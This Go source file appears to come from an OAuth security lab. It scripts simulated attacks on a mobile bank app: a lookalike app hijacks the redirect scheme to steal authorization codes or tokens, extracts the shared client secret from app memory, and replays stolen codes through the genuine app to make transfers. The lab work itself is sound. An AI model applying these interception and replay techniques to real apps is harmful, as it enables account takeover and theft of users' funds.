package appside

import (
	"context"
	"errors"
	"fmt"
	"net/url"
	"path/filepath"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/lookalike"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/catalog"
	"keyladder/stages/protect"
)

// CodeHijack has an app of the attacker's on the victim's phone, which claims the same links as the
// bank's: nobody owns a scheme (RFC 8252, section 8.1). It is handed the redirect in which the
// authorization server sends what it gives. A token is good at once. A code is exchanged with the
// app's own secret, which is the same in every copy of the app and lies in the memory of the one
// on the attacker's phone.
//
//keyladder:code attack-code-hijack
func CodeHijack(ctx context.Context, g *attack.Given) (attack.Result, error) {
	link, err := hijack(ctx, g, g.Thief.SignsIn)
	if err != nil {
		return attack.Result{}, err
	}
	var caught loot.Loot
	caught.Search([]byte(link))
	if len(caught.Tokens) > 0 {
		g.Say("In it: an access token.")
		return attack.RobAs(ctx, g, []protect.Identity{{ClientID: g.ClientID, Token: caught.Tokens[0]}})
	}
	code := parameter(link, "code")
	if code == "" {
		return attack.Result{}, errors.New("there is neither a token nor a code in the link that was caught")
	}
	g.Say("In it: an authorization code.")
	phone, found, err := g.Hook(ctx)
	if err != nil {
		return attack.Stopped(err)
	}
	defer phone.Close()
	tries, err := g.Identities(found.OfApp()...)
	if err != nil {
		return attack.Result{}, err
	}
	if len(tries) == 0 {
		return attack.Result{}, errors.New("the app's own secret was not found in its memory")
	}
	p, err := attack.NewProgram(g, tries[0])
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	err = p.Redeem(ctx, protect.Response{Code: code})
	if err == nil {
		g.Say("Exchanged the code for an access token, with a program that is not the app.")
		err = p.Rob(ctx)
	}
	if err != nil {
		return attack.Stopped(err)
	}
	return attack.Result{Claim: true, Stolen: []string{code, tries[0].Secret}}, g.SpendLoot(ctx, p.Use)
}

// CodeRelay catches the code in the same way, and has the genuine app exchange it, on the
// attacker's own phone: it begins to sign in there, so that the app waits for a redirect, and opens
// the app with one that carries the victim's code. No secret has to be found, and the app is none
// but the bank's.
//
//keyladder:code attack-code-relay
func CodeRelay(ctx context.Context, g *attack.Given) (attack.Result, error) {
	return relay(ctx, g, catalog.Bank, g.Thief.SignsIn)
}

// WeakProvider is CodeRelay with a victim who signs in at another company's authorization server.
// That one knows no PKCE: it takes any code from whoever has the client's secret. Where the mediator
// adds that, and passes on what a genuine app sends, no verifier of the victim's app is missed.
//
//keyladder:code attack-weak-provider
func WeakProvider(ctx context.Context, g *attack.Given) (attack.Result, error) {
	return relay(ctx, g, catalog.Lite, func(ctx context.Context) error { return g.Thief.SignsInAt(ctx, catalog.Lite) })
}

// relay catches the code of a victim who signs in with a provider, and has the genuine app on the
// attacker's own phone exchange it.
func relay(ctx context.Context, g *attack.Given, provider string, signsIn func(context.Context) error) (attack.Result, error) {
	link, err := hijack(ctx, g, signsIn)
	if err != nil {
		return attack.Result{}, err
	}
	code := parameter(link, "code")
	if code == "" {
		return attack.Result{}, errors.New("there is no code in the link that was caught")
	}
	phone, err := g.Open(ctx, g.Package, nil)
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	redirectURI, state, err := begin(ctx, g, phone, provider)
	if err != nil {
		return attack.Stopped(err)
	}
	query := url.Values{"code": {code}, "state": {state}}
	if iss := parameter(link, "iss"); iss != "" {
		query.Set("iss", iss)
	}
	relayed := redirectURI + "?" + query.Encode()
	g.Say("Began to sign in with the genuine app on our own phone, and opened it with a link that carries its own state and the victim's code.")
	if _, err := phone.Device.HandOver(ctx, relayed, g.Stage.Slug); err != nil {
		return attack.Result{}, fmt.Errorf("open the app with a link: %w", err)
	}
	home, err := phone.App.Home(ctx)
	switch {
	case err != nil:
		return attack.Result{}, fmt.Errorf("look who is signed in: %w", err)
	case !home.SignedIn && home.Error == "":
		return attack.Result{}, errors.New("nobody is signed in, and the app does not say why")
	case !home.SignedIn: // the authorization server knows which check it was, where the app does not
		return attack.Stopped(&attack.Refusal{Check: home.Check, Obstacle: "nobody is signed in: " + home.Error})
	}
	payment, err := phone.Payment(ctx, attack.Pittance)
	if err != nil {
		return attack.Stopped(err)
	}
	if _, err := attack.Shown(phone.App.Transfer(ctx, payment)); err != nil {
		return attack.Stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return attack.Result{Claim: true, Stolen: []string{code}}, g.SpendLoot(ctx, phone.Use)
}

// begin has the genuine app on a phone of the attacker's wait for an authorization response, and
// returns where that goes and the state that it has to have. This stands in the address of the page or, where the app has
// pushed its request, in the one that leads back: the phone's owner signs in, and keeps that.
func begin(ctx context.Context, g *attack.Given, phone *attack.Phone, provider string) (redirectURI, state string, err error) {
	if _, err := attack.Shown(phone.App.OpenSignInAt(ctx, provider)); err != nil {
		return "", "", err
	}
	agent := phone.Device.Agent()
	page := agent.Current()
	if page == nil {
		return "", "", errors.New("the app opens no page to sign in on")
	}
	if state = parameter(page.URL, "state"); state != "" {
		return parameter(page.URL, "redirect_uri"), state, nil
	}
	agent.Confirm(func(string) bool { return false })
	defer agent.Confirm(nil)
	if _, err := g.SignIn(ctx, phone.Device, phone.App, g.User, g.Password); err != nil {
		return "", "", err
	}
	if state = parameter(agent.Current().URL, "state"); state == "" {
		return "", "", errors.New("no address that leads back to the app has a state in it")
	}
	g.Say("The address of the page has no state in it: the app has pushed its request. Signed in there ourselves, and kept the link that leads back from the app.")
	return g.RedirectURI, state, nil
}

// hijack has the victim sign in while the attacker's app takes the redirect, and returns that.
func hijack(ctx context.Context, g *attack.Given, signsIn func(context.Context) error) (link string, err error) {
	collector, err := lookalike.NewCollector("")
	if err != nil {
		return "", err
	}
	defer collector.Close()
	path := filepath.Join(g.Dir, "thief.pkg")
	if err := lookalike.PackThief(g.Package, path, collector.URL()); err != nil {
		return "", err
	}
	if err := g.Thief.Install(path); err != nil {
		return "", fmt.Errorf("the victim does not install our app: %w", err)
	}
	g.Say("The victim has an app of ours beside the bank's. It claims the same links, and was installed later.")
	if err := signsIn(ctx); err != nil {
		return "", fmt.Errorf("the victim does not sign in: %w", err)
	}
	caught, ok := collector.Latest()
	if !ok || caught.Link == "" {
		return "", errors.New("no link came to our app")
	}
	g.Say("The victim signed in with the bank's app, on the bank's page. The link that leads back came to our app.")
	if g.Thief.Later != nil {
		if err := g.Thief.Later(ctx); err != nil {
			return "", err
		}
		g.Say("Waited. The victim has tried to sign in again meanwhile.")
	}
	return caught.Link, nil
}

// parameter is one of a link's query.
func parameter(link, name string) string {
	u, err := url.Parse(link)
	if err != nil {
		return ""
	}
	return u.Query().Get(name)
}
